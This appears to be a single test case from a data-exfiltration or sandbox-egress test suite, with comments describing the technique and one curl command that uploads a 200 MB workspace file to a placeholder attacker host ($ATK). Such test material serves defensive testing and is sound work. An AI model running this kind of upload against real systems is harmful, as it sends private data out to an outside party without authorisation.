# SPDX-License-Identifier: MIT
# technique: 200 MB of a workspace file already in the page cache, uploaded with curl
# level: high
# blob: 200 MB in the workspace, written by the runner on the host (the write is not the attack)
# quick: yes
t0
curl -sS -m 20 -H 'Expect:' -T /workspace/.corpus-blob "http://$ATK:8080/u" >/dev/null
